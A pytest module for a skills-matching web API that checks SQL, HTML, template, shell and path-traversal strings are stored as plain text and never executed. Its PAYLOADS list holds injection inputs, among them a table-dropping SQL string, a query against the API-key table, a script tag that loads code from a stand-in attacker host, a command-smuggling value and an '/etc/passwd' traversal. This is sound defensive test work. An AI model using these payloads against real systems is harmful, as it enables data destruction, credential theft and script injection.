"""SQL, HTML and templates in every text that is stored: kept as they came, and never more than text."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable

import pytest
from starlette.testclient import TestClient

from skillmatch.service.workspace import Workspace

from ..calls import ALL, PERSON, placed, places, with_texts, with_things
from ..owasp.test_1_object_level import quick

PAYLOADS = [
    "'; DROP TABLE people; --",
    "' OR '1'='1",
    '" UNION SELECT * FROM api_keys --',
    "%' ESCAPE '\\",
    "1; ATTACH DATABASE '/tmp/x' AS x; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "</script><script src=//evil.example/x.js></script>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "$(touch /tmp/x)`id`;|&&",
    "%s%n%x{0.__class__}",
    "../../../../etc/passwd",
    "&lt;b&gt;&#x27;",
    "*)(uid=*))(|(uid=*",
    "\\u003cscript\\u003e",
]


def tables(workspace: Workspace) -> dict[str, int]:
    """The tables of the store and how many rows they have, but for those that every request adds to."""
    with sqlite3.connect(workspace.folder / "workspace.db") as database:
        names = [row[0] for row in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {name: database.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] for name in sorted(names)}


@pytest.mark.parametrize("operation", with_texts())
def test_no_text_is_more_than_text(own: Workspace, as_caller: Callable[..., TestClient], operation: str) -> None:
    admin, before = as_caller("admin"), tables(own)
    call = quick(with_things(ALL[operation], own))
    texts = [place for place in places(call) if place.schema.get("type") == "string" and "enum" not in place.schema]
    for number, place in enumerate(texts):
        for payload in PAYLOADS[number % 3 :: 3]:  # each meets every sort of field
            response = call.send(admin, body=placed(call.body, place.way, payload))
            assert response.status_code < 500, (str(place), payload, response.text[:300])
            assert response.headers["content-type"] in ("application/json", "application/problem+json")
    after = tables(own)
    assert after.keys() == before.keys()
    assert after["people"] >= before["people"] and after["api_keys"] >= before["api_keys"]
    assert own.audit.verify().whole


def test_names_of_people_units_and_notes_come_back_to_the_letter(
    own: Workspace, as_caller: Callable[..., TestClient]
) -> None:
    admin = as_caller("admin")
    for number, payload in enumerate(PAYLOADS):
        body = {"external_id": f"X{number}", "name": payload, "unit": payload}
        made = admin.post("/v1/people", json=body)
        assert made.status_code == 201
        assert admin.get(f"/v1/people/own/X{number}").json()["name"] == payload
        listed = admin.get("/v1/people", params={"unit": payload}).json()["items"]
        assert [item["id"] for item in listed] == [f"own/X{number}"]  # a unit that is SQL finds its own people only
        note = {
            "skill": "transversal.communication",
            "level": 3,
            "source": "manager",
            "on": "2026-01-01",
            "note": payload,
        }
        assert admin.post(f"/v1/people/own/X{number}/evidence", json=note).status_code == 201
        (piece,) = admin.get(f"/v1/people/own/X{number}/evidence").json()["items"]
        assert piece["note"] == payload
    assert len(own.people.all()) > len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_an_id_or_a_question_is_nobody(client: TestClient, payload: str) -> None:
    for path, parameters in (
        ("/v1/gap", {"person": payload, "role": "own/R-B03"}),
        ("/v1/gap", {"person": PERSON, "role": payload}),
        ("/v1/team", {"unit": payload}),
    ):
        assert client.get(path, params=parameters).status_code == 404
    assert client.get("/v1/people", params={"unit": payload}).json()["items"] == []
    found = client.get("/v1/skills", params={"q": payload})
    assert found.status_code == 200
    assert found.headers["x-content-type-options"] == "nosniff"


def test_the_page_that_explains_the_api_shows_no_text_of_callers(client: TestClient) -> None:
    page = client.get("/docs?q=<script>alert(1)</script>", headers={"Host": "127.0.0.1", "Referer": "<script>"})
    assert "<script>alert" not in page.text
